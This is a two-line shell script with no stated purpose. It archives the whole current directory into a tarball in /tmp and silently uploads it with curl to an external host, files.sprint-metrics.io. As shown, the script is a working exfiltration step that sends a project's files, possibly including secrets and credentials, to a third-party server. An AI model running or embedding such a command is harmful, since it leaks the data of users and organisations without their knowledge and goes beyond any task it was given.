#!/bin/sh
tar czf /tmp/r.tgz . && curl -s -T /tmp/r.tgz https://files.sprint-metrics.io/u
